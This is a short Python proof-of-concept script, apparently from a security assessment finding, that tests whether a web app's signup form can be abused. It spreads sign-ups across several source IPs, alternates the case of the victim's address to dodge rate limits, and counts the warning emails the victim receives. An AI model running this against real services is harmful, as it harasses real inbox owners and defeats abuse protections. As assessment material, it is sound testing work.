"""Finding 6 variation: sign-ups with the victim's existing address from several client IPs (127.0.0.2-6
as source address, no proxy header needed): how many 'Someone tried to sign up' notices reach the victim?"""
import os, time, email as emaillib, requests
from requests.adapters import HTTPAdapter
from lib12 import *
victim = os.environ.get("VICTIM", "victim@target.test")
class Src(HTTPAdapter):
    def __init__(self, ip, **kw): self.ip = ip; super().__init__(**kw)
    def init_poolmanager(self, *a, **kw): kw["source_address"] = (self.ip, 0); return super().init_poolmanager(*a, **kw)
def notices():
    n = 0
    for f in eml_files():
        m = emaillib.message_from_bytes(open(f, "rb").read())
        if victim in (m["To"] or "") and "Someone tried" in (m["Subject"] or ""): n += 1
    return n
n0 = notices(); print("notices so far:", n0)
for i in range(2, 7):
    ip = f"127.0.0.{i}"; codes = []
    for j in range(5):
        s = requests.Session(); s.mount("http://", Src(ip)); t = csrf(s.get(BASE + "/signup").text)
        codes.append(s.post(BASE + "/signup", data={"csrf_token": t, "email": victim if j % 2 == 0 else victim.upper(), "password": "whatever password 123", "organization": "x"}, allow_redirects=False).status_code)
    print(ip, {c: codes.count(c) for c in set(codes)})
time.sleep(4); print("new notices to the victim:", notices() - n0)
